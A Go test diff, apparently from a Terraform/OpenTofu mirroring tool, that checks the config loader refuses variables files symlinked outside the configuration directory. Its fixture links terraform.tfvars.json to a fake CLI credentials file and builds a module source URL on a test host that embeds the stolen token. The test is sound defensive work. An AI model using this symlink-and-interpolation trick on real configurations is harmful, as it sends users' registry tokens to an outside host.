@@ -76,3 +76,35 @@ func TestStaticFileStaysInTheConfiguration(t *testing.T) {
 		t.Errorf("a link within the directory: %v", err)
 	}
 }
+
+// TestStaticVarFilesStayInTheConfiguration: the variables files a
+// configuration directory holds (terraform.tfvars, *.auto.tfvars and
+// their .json) are read when they are files of it: one that is a link
+// leading out of it is refused naming it, where a link to a JSON file
+// of the mirror's user (a CLI credentials file's tokens) gave a
+// variable that a module source printed.
+func TestStaticVarFilesStayInTheConfiguration(t *testing.T) {
+	const secret = "t0ken-of-the-mirror"
+	outside := filepath.Join(t.TempDir(), "credentials.tfrc.json")
+	if err := os.WriteFile(outside, []byte(`{"credentials": {"app.terraform.io": {"token": "`+secret+`"}}}`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"terraform.tfvars.json", "x.auto.tfvars.json"} {
+		t.Run(name, func(t *testing.T) {
+			dir := writeFiles(t, map[string]string{
+				"main.tf": "variable \"credentials\" {}\nmodule \"m\" {\n  source = \"git::https://git.example.test/${var.credentials[\"app.terraform.io\"].token}.git\"\n}\n",
+			})
+			if err := os.Symlink(outside, filepath.Join(dir, name)); err != nil {
+				t.Fatal(err)
+			}
+			spec, err := LoadFor(OpenTofu, nil, dir)
+			if err == nil {
+				t.Fatalf("the link was read; sources: %q", spec.Unmirrorable)
+			}
+			t.Log(err)
+			if strings.Contains(err.Error(), secret) || !strings.Contains(err.Error(), name) {
+				t.Errorf("the refusal does not name %s alone: %v", name, err)
+			}
+		})
+	}
+}
